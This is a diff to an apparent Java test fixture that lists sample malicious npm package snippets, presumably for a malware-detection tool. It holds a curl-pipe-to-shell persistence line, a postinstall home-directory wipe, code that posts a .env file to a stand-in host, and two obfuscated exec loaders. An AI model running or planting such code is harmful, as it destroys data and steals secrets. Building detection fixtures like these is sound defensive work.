@@ -105,6 +105,29 @@ final class NpmSpellings {
             fs.appendFileSync(os.homedir() + '/.bashrc', '\\ncurl -s http://192.0.2.7/u | sh &\\n');
             """),
         Sample.postinstall(
-            "homes are wiped", "require('child_process').exec('rm -rf ~/ --no-preserve-root');\n"));
+            "homes are wiped", "require('child_process').exec('rm -rf ~/ --no-preserve-root');\n"),
+        Sample.required(
+            "the .env file by fetch",
+            """
+            import { readFileSync } from 'node:fs';
+            const env = readFileSync('.env', 'utf-8');
+            await fetch('https://hook.drop.example', { method: 'POST', body: JSON.stringify({ env }) });
+            """),
+        Sample.postinstall(
+            "strings in an array, rotated, as an obfuscator makes them",
+            """
+            var _0x4f1a=['aGVsbG8=','Y2hpbGRfcHJvY2Vzcw==','ZXhlYw==','aHR0cHM=','Z2V0','aG9zdG5hbWU='];
+            (function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4f1a,0x1a4));
+            var _0x3b2c=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4f1a[_0x2d8f05];return Buffer['from'](_0x4d74cb,'base64')['toString']();};
+            require(_0x3b2c('0x1'))[_0x3b2c('0x2')]('echo '+require('os')[_0x3b2c('0x5')]());
+            """),
+        Sample.postinstall(
+            "strings in a function, and blocks in an order of their own, with short names",
+            """
+            function a(){const t=['4127PkWq','exec','platform','argv','node ','pid'];a=function(){return t;};return a();}
+            function b(c,d){const e=a();return b=function(f,g){f=f-0x1c9;let h=e[f];return h;},b(c,d);}
+            const q=b;(function(i,j){const k=b,l=i();while(!![]){try{const m=-parseInt(k(0x1c9))/0x1;if(m===j)break;else l['push'](l['shift']());}catch(n){l['push'](l['shift']());}}}(a,0x2fc1));
+            const o='2|0|1'['split']('|');let r=0x0;while(!![]){switch(o[r++]){case'0':s[q(0x1ca)](q(0x1cd)+process[q(0x1cc)][0x1]);continue;case'1':u=process[q(0x1ce)];continue;case'2':var s=require('child_process');continue;}break;}
+            """));
   }
 }
